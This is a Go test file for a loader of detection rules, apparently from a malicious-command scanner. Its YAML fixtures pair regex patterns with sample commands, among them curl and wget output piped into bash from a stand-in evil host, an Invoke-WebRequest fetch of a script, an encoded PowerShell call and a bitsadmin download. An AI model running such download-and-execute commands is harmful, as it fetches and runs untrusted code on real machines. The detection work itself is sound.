package rule

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

func writeRule(t *testing.T, dir, file, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, file), []byte(content), 0644); err != nil {
		t.Fatal(err)
	}
}

const validCritical = `
name: critical-01-base64-powershell
severity: critical
description: Base64-encoded PowerShell invocation
pattern: '(?i)(powershell[^\n]{0,40}-enc\s+[A-Za-z0-9+/=]{20,})'
malicious:
  - 'powershell -enc JABzAD0AJwBoAHQAdABwADoALwAvAGUAeABhAG0AcABsAGUAJwA='
benign:
  - 'powershell -Command Get-Process'
`

const validHighMulti = `
name: high-01-pipe-to-shell
severity: high
description: Download piped into a shell
patterns:
  - name: curl-pipe
    pattern: 'curl[^\n|]{0,200}\|\s*bash'
  - name: wget-pipe
    pattern: 'wget[^\n|]{0,200}\|\s*bash'
malicious:
  - 'curl -sL https://evil.example/x.sh | bash'
benign:
  - 'curl -sL https://example.com/data.json'
`

const validExperimental = `
name: experimental-high-05-download-commands
severity: high
description: Download cmdlets, needs an allowlist
pattern: '(?i)(iwr\s+https?://)'
malicious:
  - 'iwr http://evil.example/fix.ps1'
benign:
  - 'git clone https://github.com/golang/go'
`

func TestLoad_OrdersByTierThenName(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "medium-01-bitsadmin.yaml", `
name: medium-01-bitsadmin
severity: medium
description: bitsadmin transfer
pattern: 'bitsadmin\s+/transfer'
malicious: ['bitsadmin /transfer j http://x/p.exe c:\p.exe']
benign: ['bitsadmin /list']
`)
	writeRule(t, dir, "high-01-pipe-to-shell.yaml", validHighMulti)
	writeRule(t, dir, "critical-01-base64-powershell.yaml", validCritical)

	rules, warnings, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(warnings) != 0 {
		t.Errorf("unexpected warnings: %v", warnings)
	}

	want := []string{"critical-01-base64-powershell", "high-01-pipe-to-shell", "medium-01-bitsadmin"}
	if len(rules) != len(want) {
		t.Fatalf("expected %d rules, got %d", len(want), len(rules))
	}
	for i, name := range want {
		if rules[i].Name != name {
			t.Errorf("rule %d: expected %s, got %s", i, name, rules[i].Name)
		}
	}
}

func TestLoad_ParsesFields(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "high-01-pipe-to-shell.yaml", validHighMulti)

	rules, _, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(rules) != 1 {
		t.Fatalf("expected 1 rule, got %d", len(rules))
	}

	r := rules[0]
	if r.Severity != SeverityHigh || r.Tier != TierHigh || r.Experimental {
		t.Errorf("unexpected classification: severity=%s tier=%s experimental=%v", r.Severity, r.Tier, r.Experimental)
	}
	if len(r.Subpatterns) != 2 {
		t.Fatalf("expected 2 sub-patterns, got %d", len(r.Subpatterns))
	}
	if r.Subpatterns[0].Name != "curl-pipe" {
		t.Errorf("expected sub-pattern name curl-pipe, got %s", r.Subpatterns[0].Name)
	}
	if r.Matcher == nil {
		t.Fatal("expected compiled matcher")
	}
	if !r.Matcher.Matches("wget -qO- http://x/s.sh | bash") {
		t.Error("second sub-pattern should match via OR semantics")
	}
}

func TestLoad_NormalizesSeverityCase(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-02-upper.yaml", `
name: critical-02-upper
severity: Critical
description: severity written upper-case
pattern: 'x'
malicious: ['x']
benign: ['y']
`)

	rules, _, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if rules[0].Severity != SeverityCritical {
		t.Errorf("expected normalized severity critical, got %s", rules[0].Severity)
	}
}

func TestLoad_ExperimentalExcludedByDefault(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-01-base64-powershell.yaml", validCritical)
	writeRule(t, dir, "experimental-high-05-download-commands.yaml", validExperimental)

	rules, _, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	for _, r := range rules {
		if r.Experimental {
			t.Errorf("default load must not include experimental rule %s", r.Name)
		}
	}
	if len(rules) != 1 {
		t.Errorf("expected 1 rule, got %d", len(rules))
	}

	all, _, err := Load(dir, LoadOptions{IncludeExperimental: true})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(all) != 2 {
		t.Errorf("expected 2 rules with experimental opt-in, got %d", len(all))
	}
	last := all[len(all)-1]
	if !last.Experimental || last.Severity != SeverityHigh {
		t.Errorf("experimental rule should keep its underlying severity, got %+v", last)
	}
}

func TestLoad_Filter(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-01-base64-powershell.yaml", validCritical)
	writeRule(t, dir, "high-01-pipe-to-shell.yaml", validHighMulti)
	writeRule(t, dir, "experimental-high-05-download-commands.yaml", validExperimental)

	rules, _, err := Load(dir, LoadOptions{Filter: "critical-01-base64-powershell"})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(rules) != 1 || rules[0].Name != "critical-01-base64-powershell" {
		t.Fatalf("exact filter failed: %v", rules)
	}

	// A filter reaches experimental rules without the opt-in flag.
	rules, _, err = Load(dir, LoadOptions{Filter: "experimental-*"})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(rules) != 1 || !rules[0].Experimental {
		t.Fatalf("glob filter failed: %v", rules)
	}

	_, _, err = Load(dir, LoadOptions{Filter: "critical-99-nope"})
	var notFound *RuleNotFoundError
	if !errors.As(err, &notFound) {
		t.Fatalf("expected RuleNotFoundError, got %v", err)
	}
	if notFound.Name != "critical-99-nope" {
		t.Errorf("expected filter name in error, got %q", notFound.Name)
	}
}

func TestLoad_MalformedRules(t *testing.T) {
	tests := []struct {
		name      string
		file      string
		content   string
		wantField string
	}{
		{
			"missing name",
			"",
			"severity: critical\ndescription: d\npattern: 'x'\n",
			"name",
		},
		{
			"missing severity",
			"",
			"name: critical-01-x\ndescription: d\npattern: 'x'\n",
			"severity",
		},
		{
			"unknown severity",
			"",
			"name: critical-01-x\nseverity: extreme\ndescription: d\npattern: 'x'\n",
			"severity",
		},
		{
			"missing description",
			"",
			"name: critical-01-x\nseverity: critical\npattern: 'x'\n",
			"description",
		},
		{
			"missing pattern",
			"",
			"name: critical-01-x\nseverity: critical\ndescription: d\n",
			"pattern",
		},
		{
			"invalid regex",
			"",
			"name: critical-01-x\nseverity: critical\ndescription: d\npattern: '('\n",
			"pattern",
		},
		{
			"inline flag format",
			"",
			"name: critical-01-x\nseverity: critical\ndescription: d\npattern: '(?i)powershell'\n",
			"pattern",
		},
		{
			"tier severity disagreement",
			"",
			"name: critical-01-x\nseverity: medium\ndescription: d\npattern: 'x'\n",
			"severity",
		},
		{
			"experimental without embedded severity",
			"",
			"name: experimental-05-x\nseverity: high\ndescription: d\npattern: 'x'\n",
			"name",
		},
		{
			"experimental embedded severity disagreement",
			"",
			"name: experimental-medium-05-x\nseverity: high\ndescription: d\npattern: 'x'\n",
			"severity",
		},
		{
			"no tier prefix",
			"random-rule.yaml",
			"name: random-rule\nseverity: high\ndescription: d\npattern: 'x'\n",
			"name",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			file := tt.file
			if file == "" {
				file = "critical-01-x.yaml"
			}
			writeRule(t, dir, file, tt.content)

			_, _, err := Load(dir, LoadOptions{})
			var malformed *MalformedRuleError
			if !errors.As(err, &malformed) {
				t.Fatalf("expected MalformedRuleError, got %v", err)
			}
			if malformed.Field != tt.wantField {
				t.Errorf("expected field %q, got %q (%v)", tt.wantField, malformed.Field, err)
			}
		})
	}
}

func TestLoad_MalformedAbortsWholeLoad(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-01-base64-powershell.yaml", validCritical)
	writeRule(t, dir, "high-02-broken.yaml", "name: high-02-broken\nseverity: high\ndescription: d\npattern: '('\n")

	rules, _, err := Load(dir, LoadOptions{})
	if err == nil {
		t.Fatal("expected error for broken rule file")
	}
	if rules != nil {
		t.Error("no partial rule set may be returned when a file is malformed")
	}
}

func TestLoad_DuplicateNames(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-01-a.yaml", "name: critical-01-dup\nseverity: critical\ndescription: d\npattern: 'x'\n")
	writeRule(t, dir, "critical-01-b.yaml", "name: critical-01-dup\nseverity: critical\ndescription: d\npattern: 'y'\n")

	_, _, err := Load(dir, LoadOptions{})
	var malformed *MalformedRuleError
	if !errors.As(err, &malformed) {
		t.Fatalf("expected MalformedRuleError for duplicate names, got %v", err)
	}
	if malformed.Field != "name" {
		t.Errorf("expected field name, got %q", malformed.Field)
	}
}

func TestLoad_Warnings(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "medium-02-sparse.yaml", `
name: medium-02-sparse
severity: medium
description: freshly added rule without benign samples yet
pattern: 'x'
malicious: ['x marks the spot']
`)

	rules, warnings, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("sparse samples must warn, not fail: %v", err)
	}
	if len(rules) != 1 {
		t.Fatalf("expected 1 rule, got %d", len(rules))
	}
	if len(warnings) != 1 {
		t.Fatalf("expected 1 warning, got %v", warnings)
	}
}

func TestLoad_SkipsDisabledAndForeignFiles(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "critical-01-base64-powershell.yaml", validCritical)
	writeRule(t, dir, "_wip-rule.yaml", "name: broken\n")
	writeRule(t, dir, "README.md", "# patterns")
	if err := os.Mkdir(filepath.Join(dir, "drafts"), 0755); err != nil {
		t.Fatal(err)
	}

	rules, _, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(rules) != 1 {
		t.Errorf("expected 1 rule, got %d", len(rules))
	}
}

func TestLoad_PrunesEmptySamples(t *testing.T) {
	dir := t.TempDir()
	writeRule(t, dir, "high-03-blank.yaml", `
name: high-03-blank
severity: high
description: blank sample entries are ignored
pattern: 'evil'
malicious:
  - 'run evil now'
  - '   '
benign:
  - 'harmless'
  - ''
`)

	rules, _, err := Load(dir, LoadOptions{})
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	r := rules[0]
	if len(r.Malicious) != 1 || len(r.Benign) != 1 {
		t.Errorf("expected blank samples pruned, got %d malicious, %d benign", len(r.Malicious), len(r.Benign))
	}
}
